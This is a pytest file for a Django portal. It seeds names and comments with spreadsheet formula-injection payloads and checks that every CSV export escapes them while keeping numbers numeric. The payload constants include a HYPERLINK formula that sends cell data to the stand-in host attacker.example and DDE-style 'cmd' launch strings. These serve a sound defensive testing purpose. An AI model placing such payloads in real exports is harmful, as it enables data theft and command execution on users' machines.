"""Every CSV export is safe to open in a spreadsheet: no cell can start a formula, and numbers stay numbers.

Names an admin or a user can type (service and unit names, pool, environment and location names, model
versions, NPS comments) are seeded with formula payloads; every CSV route is fetched as an admin (who may
read every export) and every cell of every row is checked.
"""

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from apps.adoption.models import NpsCampaign, NpsResponse
from apps.adoption.services import events_ingest, rollups_refresh_all
from apps.billing.models import BillingSource, CostRollup
from apps.catalog.models import Location
from apps.telemetry.services import telemetry_push
from tests.adoption.factories import ev
from tests.capacity.factories import push
from tests.factories import EnvironmentFactory, ProductFactory, ServiceFactory, TeamFactory
from tests.telemetry.factories import CapacityPoolFactory, ModelVersionFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?q="&A1,"Click")'
PLUS = "+1"
MINUS = "-2+3"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
SHORT = "=cmd|'/C calc'!A0"  # fits a slug column
PAYLOADS = [HYPERLINK, PLUS, MINUS, AT, TAB]

DAY = date(2026, 10, 5)
T = datetime(2026, 10, 5, 9, tzinfo=UTC)
PERIOD = "2026-10"
NEGATIVE_NUMBER = re.compile(r"-(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

# Every CSV route: (URL name, args, query). Adoption's export takes the kind in the path.
ADOPTION_KINDS = ["summary", "funnel", "trend", "retention", "locations", "nps-responses"]
EXPORTS = {
    "kpis:overview-export": [((), {"period": PERIOD})],
    "billing:unit-cost-export": [((), {"period": PERIOD})],
    "billing:explorer-export": [
        ((), {"period": PERIOD}),
        ((), {"period": PERIOD, "group_by": "environment", "grain": "day"}),
        ((), {"period": PERIOD, "group_by": "location", "grain": "day"}),
    ],
    "capacity:overview-csv": [((), {"period": PERIOD})],
    "capacity:pool-csv": [(("gpu",), {"period": PERIOD})],
    "telemetry:models-csv": [((), {"period": PERIOD})],
    "adoption:export": [((kind,), {"period": PERIOD}) for kind in ADOPTION_KINDS],
    "audit:export": [((), {})],
}


def _route_names(resolver: URLResolver, namespace: str = "") -> set[str]:
    names = set()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = ":".join(filter(None, [namespace, pattern.namespace]))
            names |= _route_names(pattern, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            names.add(f"{namespace}:{pattern.name}" if namespace else pattern.name)
    return names


def test_the_list_covers_every_csv_or_export_route():
    names = {
        n
        for n in _route_names(get_resolver())
        if ("csv" in n or "export" in n) and not n.startswith("admin:") and ":" in n
    }
    assert names == set(EXPORTS), "a CSV route is missing from EXPORTS (or one was removed)"


@pytest.fixture
def hostile(db):
    """Data whose user-typed names are formula payloads, feeding every export."""
    team = TeamFactory(slug="team-a")
    env = EnvironmentFactory(slug="prod", name=PLUS)
    service = ServiceFactory(slug=MINUS, name=AT, team=team, unit_name=HYPERLINK)
    store = Location.objects.create(code="store-0001", name=HYPERLINK, kind=Location.Kind.STORE)
    source = BillingSource.objects.create(name=TAB)
    for day, cost in ((DAY, "100.00"), (DAY + timedelta(days=1), "-40.00")):
        CostRollup.objects.create(
            day=day,
            source=source,
            billing_period_start=day.replace(day=1),
            service=service,
            environment=env,
            location=store,
            provider="AWS",
            billed_cost=Decimal(cost),
            effective_cost=Decimal(cost),
            line_items=1,
        )

    CapacityPoolFactory(slug=SHORT, name=AT, environment=env, resource_type="gpu")
    CapacityPoolFactory(slug="gpu", name="GPU", environment=env, resource_type="gpu")
    hours = [T + timedelta(hours=h) for h in range(3)]
    push("gpu_provisioned", dict.fromkeys(hours, 10), pool="gpu")
    push("gpu_used", dict.fromkeys(hours, 4), pool="gpu")

    ModelVersionFactory(model__slug="ranker", model__name="Ranker", model__service=service, version=AT)
    telemetry_push(
        points=[
            {
                "metric": "request_count",
                "model": "ranker",
                "version": AT,
                "environment": "prod",
                "timestamp": ts,
                "value": 5,
            }
            for ts in (T.isoformat(), (T + timedelta(hours=1)).isoformat())
        ]
    )

    product = ProductFactory(slug="alpha", name=HYPERLINK, usage_event_names=["alpha_used"])
    events_ingest(
        [
            ev("alpha", "emp-1", "trial_requested", T, location="store-0001"),
            ev("alpha", "emp-1", "alpha_used", T + timedelta(hours=1), location="store-0001"),
        ],
        schedule_refresh=False,
    )
    rollups_refresh_all()
    campaign = NpsCampaign.objects.create(product=product, slug="pulse", name=PLUS, opens_on=DAY)
    NpsResponse.objects.create(
        campaign=campaign, product=product, respondent="emp-1", score=3, comment=AT, submitted_at=T, source="survey"
    )
    NpsResponse.objects.create(
        campaign=campaign, product=product, respondent="emp-2", score=9, comment=MINUS, submitted_at=T, source="survey"
    )


def _fetch(client, name: str, args, query) -> list[list[str]]:
    response = client.get(reverse(name, args=args), query)
    assert response.status_code == 200, (name, args, response.status_code)
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


def _unsafe(cell: str) -> bool:
    if cell.startswith(("=", "+", "@", "\t", "\r")):
        return True
    return cell.startswith("-") and not NEGATIVE_NUMBER.fullmatch(cell)


def test_no_export_cell_can_start_a_formula(admin_client_portal, hostile):
    cells = []
    for name, calls in EXPORTS.items():
        for args, query in calls:
            rows = _fetch(admin_client_portal, name, args, query)
            assert rows, f"{name} {args} is empty"
            for row in rows:
                for cell in row:
                    assert not _unsafe(cell), f"{name} {args}: unescaped cell {cell!r}"
                    cells.append(cell)
    # The payloads did reach the exports, escaped with one apostrophe and otherwise unchanged.
    for payload in (HYPERLINK, PLUS, MINUS, AT, SHORT):
        assert "'" + payload in cells, f"{payload!r} does not appear escaped in any export"


def test_numbers_stay_numbers(admin_client_portal, hostile):
    explorer = _fetch(admin_client_portal, "billing:explorer-export", (), {"period": PERIOD, "grain": "day"})
    header, *rows = explorer
    by_day = {row[0][:10]: row[-1] for row in rows}
    # The refund day: a negative amount a spreadsheet reads as a number, not "'-40".
    assert Decimal(by_day["2026-10-06"]) == Decimal("-40")
    assert by_day["2026-10-06"].startswith("-4")
    assert Decimal(by_day["2026-10-05"]) == Decimal("100")

    unit_cost = _fetch(admin_client_portal, "billing:unit-cost-export", (), {"period": PERIOD})
    header, *rows = unit_cost
    service_row = next(r for r in rows if r[header.index("service")] == "'" + MINUS)
    assert Decimal(service_row[header.index("allocated_cost")]) == Decimal("60")

    nps = _fetch(admin_client_portal, "adoption:export", ("nps-responses",), {"period": PERIOD})
    header, *rows = nps
    assert sorted(r[header.index("score")] for r in rows) == ["3", "9"]
